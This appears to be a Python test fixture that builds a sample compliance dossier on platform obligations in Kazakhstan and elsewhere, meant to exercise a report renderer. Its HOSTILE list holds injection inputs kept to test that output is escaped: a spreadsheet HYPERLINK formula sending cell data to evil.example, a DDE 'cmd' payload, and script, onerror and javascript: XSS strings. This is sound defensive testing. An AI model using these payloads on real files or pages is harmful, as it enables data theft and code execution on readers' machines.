"""A report made by hand, with a cell of every kind, texts that mean harm, and tables of any length."""

from collections.abc import Iterator
from datetime import date
from pathlib import Path

from babel import Locale
from babel.support import NullTranslations

from reports.model import (
    Audience,
    Block,
    CardPlace,
    Chart,
    Code,
    Column,
    ColumnKind,
    Day,
    Foreign,
    Layout,
    Lines,
    Link,
    Number,
    Paragraph,
    Ref,
    Report,
    Row,
    Section,
    Streamed,
    Table,
    Terms,
    Tone,
    Word,
    Words,
)
from reports.picture import Box, Picture, Text
from reports.statement import FORMAT, RULES, LogPoint, Statement
from reports.words.language import Language, language


def drawn(wide: int) -> Picture:
    """A picture of one bar with its words."""
    return Picture(wide, 60, (Box(10, 10, wide / 2, 20, "#2b8350"), Text(10, 45, "A bar")))


ENGLISH = language("en")
ARABIC = Language("ar", Locale.parse("ar"), NullTranslations())
"""Arabic with messages in English: what formats do doesn't hang on the catalogue."""

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "harmless; =1+1",
    "<script>alert(1)</script>",
    "<r><t>markup</t></r>",
    '<img src="x" onerror="alert(1)">',
    "![image](http://evil.example/x.png)",
    "[link](javascript:alert(1))",
    "<http://evil.example>, www.evil.example, http://evil.example, a@evil.example",
    "a | b || c \\| d",
    "`code` ``more`` *strong* _em_ ~~gone~~ # no heading",
    "# heading",
    "- item",
    "1. item",
    "1) item",
    "---",
    "> quote",
    "    code",
    "| a | b |\n| --- | --- |",
    "&lt;b&gt; &amp; &copy;",
    "${{x}} {% x %} $x^2$",
    "said \"so\", they\n\nsaid; 'so'\r\nand so",
    "\u202etxet desrever\u202c \u2066isolated\u2069",
    "control \x00\x07\x1b[31m\x7f\x85 signs",
    "_x0041_ _x202E_ _x000D_",
    "\u2028separators\u2029",
    "نص عربي, қазақша, Tiếng Việt, 🏳️‍🌈",
)
"""Texts that somebody could have recorded, in the hope that a reader's program does what they say."""

OVERDUE = Word("overdue", "Overdue", Tone.BAD, "!!")
MET = Word("met", "Met", Tone.GOOD, "✓")
NONE = Word("none", "Nothing is asked", Tone.NEUTRAL, "–")

EVERYTHING = (
    Column("occurred", "When", width=18, place=CardPlace.HEAD),
    Column("type", "What", width=24, place=CardPlace.HEAD),
    Column("marks", "What became of it", ColumnKind.LIST, 18, CardPlace.MARKS),
    Column("due", "Due on", ColumnKind.DAY, 14),
    Column("count", "Users", ColumnKind.NUMBER, 12),
    Column("note", "Note", width=44),
    Column("cause", "Because of", width=24),
    Column("sources", "Sources", ColumnKind.LIST, 40),
    Column("id", "Fact", width=38, place=CardPlace.FOOT),
)


def statement(code: str = "en") -> Statement:
    """How a dossier was made."""
    return Statement(
        report=FORMAT,
        kind="dossier",
        platform="tiktok",
        jurisdiction="KZ",
        at=date(2024, 11, 1),
        known=LogPoint(
            position=1234, recorded_at="2024-11-02T08:30:00.123456Z", root="q83vASNFZ4k="
        ),
        longest=1000,
        language=code,
        rules=RULES,
        register="0.6.0",
    )


def everything(said: Language, text: str = "Words of a note") -> Row:
    """A row with a cell of every kind, and a text from the log in each that has one."""
    return (
        said.when("2023-11-27"),
        Word("office-opened", "Office opened", Tone.GOOD, "+"),
        Lines(((OVERDUE,), ("corrected by ", Ref("fact-2", "the letter")))),
        said.day(date(2024, 1, 15)),
        said.number(1_500_000),
        Foreign(text, "kk"),
        ("answers ", Ref("fact-1", "a demand"), ": ", Foreign(text)),
        Lines(
            (
                (Link("https://gov.example/a_(b)?c=d&copy=1", Foreign(text, "ru")), ", 2023"),
                (Link("javascript:alert(1)", "no address"),),
                (Foreign(text),),
            )
        ),
        Code("0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b"),
    )


def bare(said: Language) -> Row:
    """A row whose cells are empty, or at the edge of their kind."""
    return (
        said.when("2020~"),
        (Word("office-opened", "Office opened"),),
        Lines(()),
        Day(date(1899, 12, 31), "31 December 1899"),
        Number(2.5, "2.5"),
        None,
        (),
        None,
        None,
    )


def facts(said: Language) -> Table:
    """A table of cards with every text that means harm."""
    rows = (*(everything(said, text) for text in ("Words", *HOSTILE)), bare(said))
    return Table("facts", "Facts", EVERYTHING, rows, Layout.CARDS, anchor="id")


def grid(said: Language) -> Table:
    """A grid of words."""
    places = ("KZ", "RU", "SA", "VN")
    columns = (
        Column("platform", "Platform", width=16),
        *(Column(place.lower(), said.jurisdiction(place), width=14) for place in places),
    )
    late = Word("pledged", "Pledged", Tone.AHEAD, "→")
    warned = Word("disputed", "Disputed", Tone.WARN, "?")
    gone = Word("blocked", "Blocked", Tone.GONE, "×")
    rows: tuple[Row, ...] = (
        (Foreign("TikTok"), OVERDUE, MET, NONE, (late, ", ", warned)),
        (Foreign("=Telegram"), gone, None, warned, late),
    )
    return Table("matrix", "Platforms and jurisdictions: a [grid]", columns, rows, Layout.GRID)


def long(count: int) -> Table:
    """A table whose rows are made while they are read."""

    def make() -> Iterator[Row]:
        for number in range(count):
            yield (Number(number, f"{number:,}"), Foreign(f"note {number}\nin two lines"))

    columns = (Column("number", "Number", ColumnKind.NUMBER), Column("note", "Note", width=30))
    return Table("long", "A long table", columns, Streamed(count, make))


def empty() -> Table:
    """A table without rows."""
    return Table("empty", "Nothing yet", (Column("note", "Note"),), ())


def report(said: Language = ENGLISH, *tables: Table) -> Report:
    """A report with these tables, else with one of each sort."""
    shown = tables or (facts(said), grid(said), empty(), long(3), *_apart())
    opening: tuple[Block, ...] = (
        Paragraph((Foreign(HOSTILE[9]), " is late"), Tone.BAD),
        Terms(((("Root",), (Code("abc+/="),)), (("Note",), (Foreign(HOSTILE[15]),)))),
        Chart("life", "A life", "It began in 2023, and went on.", drawn),
    )
    return Report(
        statement(said.code),
        (Foreign("TikTok <b>", "en"), " in ", said.jurisdiction("KZ")),
        (
            Words((OVERDUE, MET)),
            Paragraph(("1. An office is overdue since ", said.day(date(2024, 1, 15)))),
        ),
        (Section("now", "Where it stands", opening), Section("all", "All facts", shown)),
        main=shown[0].name,
        data={"standing": {"requirements": ["office"], "overdue": True}, "of": "تيك توك"},
    )


def _apart() -> tuple[Table, Table]:
    columns = (Column("note", "Note"),)
    return (
        Table("readers", "For readers", columns, (("Read this",),), audience=Audience.READERS),
        Table("programs", "For programs", columns, (("run",),), audience=Audience.PROGRAMS),
    )


def files_of(path: Path) -> list[Path]:
    """The files that writing to a path leaves: a csv has its metadata beside it."""
    return sorted(path.parent.glob(f"{path.name}*"))
